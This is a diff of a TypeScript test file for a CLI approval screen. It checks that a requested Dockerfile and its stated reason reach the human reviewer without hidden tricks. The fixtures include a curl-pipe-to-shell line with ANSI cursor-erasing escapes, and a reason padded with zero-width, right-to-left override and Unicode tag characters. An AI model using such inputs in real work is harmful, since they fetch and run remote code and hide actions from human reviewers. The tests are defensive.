@@ -6,6 +6,7 @@ import { capabilityReview, currentDockerfile } from '../../src/cli/capability-re
 import { lineDiff } from '../../src/cli/line-diff.js';
 import type { Session } from '../../src/cli/session.js';
 import type { LifecycleEvent } from '../../src/events/schema.js';
+import { MAX_SHOWN_REASON_LINES } from '../../src/shared/visible-text.js';
 import { foldEvents, initialBottleState, type PendingCapability } from '../../src/machines/index.js';
 import { history, launchSteps, samplePlan, type Step } from '../golden/fixtures.js';
 
@@ -50,6 +51,21 @@ describe('bottle approve shows the request it approves', () => {
     expect(lines).toContain('+ RUN curl -s https://x.test/i.sh | sh\\x1b[1A\\x1b[2K');
     expect(lines).toContain('  USER node');
     expect(lines.filter((l) => l.startsWith('- '))).toEqual([]);
+  });
+
+  it('shows a reason with invisible characters spelled out and its padding bounded', async () => {
+    const tags = [...'sh'].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('');
+    const reason = `need\u200b pip \u202eevil${tags}${'\n'.repeat(100)}and the real ending`;
+    const lines = await review(history([...launchSteps(ID, plan), ask('cap-9', 'FROM scratch\n', reason)]));
+    expect(lines[0]).toBe(`request cap-9 from ${ID}: dockerfile`);
+    expect(lines[1]).toBe('reason: need\\u200b pip \\u202eevil\\u{e0073}\\u{e0068}');
+    const reasonLines = lines.slice(
+      1,
+      lines.findIndex((l) => l.startsWith('requested Dockerfile')),
+    );
+    expect(reasonLines).toHaveLength(MAX_SHOWN_REASON_LINES);
+    expect(reasonLines.at(-1)).toMatch(/^ {8}… \(\d+ more lines\)$/);
+    for (const line of lines) expect(line).not.toMatch(/[\p{Cc}\p{Cf}]/u);
   });
 
   it('reads the Dockerfile body from the capability.requested event, not from the live state', async () => {
